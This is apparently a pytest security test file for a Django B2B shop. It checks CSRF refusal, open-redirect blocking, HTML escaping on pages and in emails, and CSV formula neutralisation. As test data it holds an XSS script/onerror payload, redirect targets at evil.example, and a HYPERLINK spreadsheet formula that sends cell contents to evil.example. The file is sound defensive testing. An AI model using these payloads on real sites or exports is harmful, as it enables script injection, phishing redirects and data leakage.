"""Browser-side attacks: CSRF on every state-changing form, open redirects, HTML injection in what
buyers and staff type, and formula injection in every CSV export."""

from __future__ import annotations

import csv
import io
import re
import subprocess
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, reverse
from django.utils import timezone

from crm.models import Contact
from mail.models import OutgoingEmail
from orders.models import Order
from orders.services.checkout import CheckoutDetails, place_order
from tests import factories
from tests.orders.builders import fill_cart
from tests.security.test_tenancy_sweep import _walk

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"請求書")'

# Views that take a POST without Django's CSRF token, and why that is safe.
CSRF_EXEMPT = {
    "unsubscribe/<str:token>/": "RFC 8058 one-click unsubscribe: the mail provider POSTs without a session; "
    "the signed token is the proof and it only ever removes mail",
}


def _all_patterns() -> dict[str, URLPattern]:
    return dict(_walk_all())


def _walk_all():
    from django.urls import get_resolver

    yield from _walk(get_resolver())


def _fill(route: str, pattern: URLPattern) -> str:
    """An address for the pattern: every value "1" (CSRF is checked before any lookup)."""
    if route.startswith("admin/"):
        kwargs = {name: "orders" if name == "app_label" else "1" for name in pattern.pattern.regex.groupindex}
        if pattern.name is None:
            return "/admin/orders/order/1/x/"
        try:
            return reverse(f"admin:{pattern.name}", kwargs=kwargs)
        except NoReverseMatch:
            return reverse(f"admin:{pattern.name}", kwargs={**kwargs, "app_label": "auth"})
    return "/" + re.sub(r"<(?:\w+:)?(\w+)>", "1", route)


# ---------------------------------------------------------------- CSRF
def test_no_view_is_csrf_exempt_except_the_listed_ones():
    """DRF views are exempt from Django's check because DRF's session authentication does its own."""
    from rest_framework.views import APIView

    exempt = set()
    for route, pattern in _all_patterns().items():
        view_class = getattr(pattern.callback, "cls", None) or getattr(pattern.callback, "view_class", None)
        if view_class is not None and issubclass(view_class, APIView):
            continue
        if getattr(pattern.callback, "csrf_exempt", False):
            exempt.add(route)
    assert exempt == set(CSRF_EXEMPT)


@pytest.mark.parametrize("who", ["buyer", "staff"])
def test_every_post_without_the_csrf_token_is_refused(who):
    user = factories.make_buyer(role="admin") if who == "buyer" else factories.make_staff()
    client = Client(enforce_csrf_checks=True)
    client.force_login(user)
    checked = 0
    for route, pattern in sorted(_all_patterns().items()):
        if route.startswith("api/") or route in CSRF_EXEMPT or route == "healthz":
            continue
        if (who == "staff") != route.startswith("admin/"):
            continue
        address = _fill(route, pattern)
        response = client.post(address, {"quantity": "1", "role": "admin", "language": "en"})
        assert response.status_code == 403, (address, response.status_code)
        assert b"CSRF" in response.content, address
        checked += 1
    assert checked > (100 if who == "staff" else 30)


def test_the_buyer_api_refuses_a_session_write_without_the_csrf_token():
    """The storefront session works on /api/v1/store/ (contract section 2), so it needs the token there
    too; a bearer token does not (no cookie a browser would send by itself)."""
    buyer = factories.make_buyer()
    product = factories.make_product()
    client = Client(enforce_csrf_checks=True)
    client.force_login(buyer)
    writes = [
        ("put", f"/api/v1/store/cart/items/{product.sku}", {"quantity": 1}),
        ("put", "/api/v1/store/cart", {"lines": [{"sku": product.sku, "quantity": 1}]}),
        ("delete", f"/api/v1/store/cart/items/{product.sku}", {}),
        ("post", "/api/v1/store/checkout", {}),
        ("post", "/api/v1/store/orders/X/reorder", {}),
    ]
    for method, address, body in writes:
        response = getattr(client, method)(
            address, body, content_type="application/json", HTTP_IDEMPOTENCY_KEY="k"
        )
        assert response.status_code == 403, (address, response.content)
        assert response.json()["code"]
    assert client.get("/api/v1/store/cart").json()["lines"] == []
    assert not Order.objects.exists()


# ---------------------------------------------------------------- open redirects
EVIL = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    "\\\\evil.example",
    "http://127.0.0.1.evil.example/",
    " https://evil.example/",
]


def _assert_stays_home(response, target):
    assert response.status_code in (200, 302), (target, response.status_code)
    if response.status_code == 302:
        location = response["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")), (target, location)
        assert "evil.example" not in location.split("?")[0], (target, location)


@pytest.mark.parametrize("target", EVIL)
def test_next_parameters_never_send_anyone_to_another_host(target):
    buyer = factories.make_buyer(password="pw-secret-123")
    product = factories.make_product()
    anonymous = Client()
    response = anonymous.post(
        f"/login/?next={target}", {"username": buyer.email, "password": "pw-secret-123"}
    )
    _assert_stays_home(response, target)
    assert response.status_code == 302  # the sign-in itself worked
    # Control: a local next= is honoured, so the refusals above are not a redirect that is always home.
    response = Client().post(
        "/login/?next=/orders/cart/", {"username": buyer.email, "password": "pw-secret-123"}
    )
    assert response["Location"] == "/orders/cart/"

    signed_in = Client()
    signed_in.force_login(buyer)
    _assert_stays_home(signed_in.get(f"/login/?next={target}"), target)  # already signed in
    _assert_stays_home(signed_in.post("/i18n/setlang/", {"language": "en", "next": target}), target)
    _assert_stays_home(signed_in.post("/i18n/setlang/", {"language": "ja"}, HTTP_REFERER=target), target)
    _assert_stays_home(
        signed_in.post("/orders/cart/add/", {"sku": product.sku, "quantity": "1", "next": target}), target
    )
    _assert_stays_home(
        signed_in.post("/orders/cart/add/", {"sku": product.sku, "quantity": "1"}, HTTP_REFERER=target),
        target,
    )
    _assert_stays_home(signed_in.post(f"/logout/?next={target}"), target)

    staff = factories.make_staff(password="staff-secret-123")
    admin = Client()
    response = admin.post(
        f"/admin/login/?next={target}",
        {"username": staff.email, "password": "staff-secret-123", "next": target},
    )
    _assert_stays_home(response, target)
    _assert_stays_home(admin.post(f"/admin/logout/?next={target}"), target)


# ---------------------------------------------------------------- HTML injection
def test_what_buyers_and_the_erp_type_is_shown_as_text_on_pages_and_in_e_mails(client):
    customer = factories.make_customer(name="株式会社" + SCRIPT)
    product = factories.make_product(name="ボルト" + SCRIPT, base_price="20000")
    buyer = factories.make_buyer(customer=customer)
    buyer.full_name = "山田" + SCRIPT
    buyer.spending_limit = Decimal(1)
    buyer.save()
    approver = factories.make_buyer(customer=customer, role="approver")
    fill_cart(buyer, (product, 1))
    order = place_order(
        buyer=buyer,
        idempotency_key="html",
        details=CheckoutDetails(po_number="PO" + SCRIPT[:40], note="備考" + SCRIPT),
        now=timezone.now(),
    ).order
    from orders.services import approval

    approval.reject_order(approver=approver, number=order.number, now=timezone.now(), reason="却下" + SCRIPT)

    client.force_login(approver)
    pages = [
        f"/products/{product.sku}/",
        "/products/?q=ボルト",
        f"/orders/history/{order.number}/",
        "/orders/history/",
        "/orders/approvals/",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        html = response.content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, page
    html = client.get(f"/orders/history/{order.number}/").content.decode()
    assert "&lt;script&gt;" in html  # shown, as text

    staff = Client()
    staff.force_login(factories.make_staff())
    for page in (
        f"/admin/orders/order/{order.pk}/change/",
        "/admin/orders/order/",
        f"/admin/catalog/product/{product.pk}/change/",
    ):
        html = staff.get(page).content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, page

    emails = list(OutgoingEmail.objects.all())
    assert {e.kind for e in emails} >= {"order_confirmation", "approval_decision"}, [e.kind for e in emails]
    confirmation = next(e for e in emails if e.kind == "order_confirmation")
    assert "&lt;script&gt;" in confirmation.body_html  # the product name is there, as text
    for email in emails:
        assert "<script>alert" not in email.body_html and "<img src=x" not in email.body_html, email.kind
        assert "\n" not in email.subject and "\r" not in email.subject


# ---------------------------------------------------------------- CSV formula injection
def test_every_csv_writer_in_the_code_is_the_safe_one():
    """A new export cannot forget: app code writes CSV only through b2bshop/csv_safe.py."""
    tracked = subprocess.run(
        ["git", "ls-files", "*.py"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout.split()
    assert "b2bshop/csv_safe.py" in tracked
    offenders = [
        name
        for name in tracked
        if not name.startswith(("tests/", "bench/"))
        and name != "b2bshop/csv_safe.py"
        and re.search(r"csv\.(writer|DictWriter)\(", (ROOT / name).read_text(encoding="utf-8"))
    ]
    assert not offenders, f"write CSV with b2bshop.csv_safe.safe_writer: {offenders}"


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_staff_csv_exports_neutralise_formulas(staff_client):
    customer = factories.make_customer(name=FORMULA)
    Contact.objects.create(customer=customer, name="-2+3", email="a@example.jp", title="@SUM(A1)")
    contacts = staff_client.post(
        "/admin/crm/contact/",
        {"action": "export_csv", "_selected_action": list(Contact.objects.values_list("pk", flat=True))},
    )
    assert contacts.status_code == 200
    contacts_cells = _csv_cells(b"".join(contacts.streaming_content))
    assert "'" + FORMULA in contacts_cells and "'-2+3" in contacts_cells and "'@SUM(A1)" in contacts_cells

    from billing import services as billing_services
    from tests.billing.builders import at, billing_customer, order_for

    debtor = billing_customer(closing_day=31)
    debtor.name = FORMULA
    debtor.save()
    order_for(debtor, shipped_on=date(2026, 11, 2))
    billing_services.close_invoices(run_date=date(2026, 11, 30), now=at(date(2026, 11, 30)))
    receivables = staff_client.get("/admin/billing/receivable/", {"format": "csv", "all": "1"})
    assert receivables["Content-Type"].startswith("text/csv")
    cells = _csv_cells(receivables.content)
    assert "'" + FORMULA in cells, cells[:20]
    for cell in contacts_cells + cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
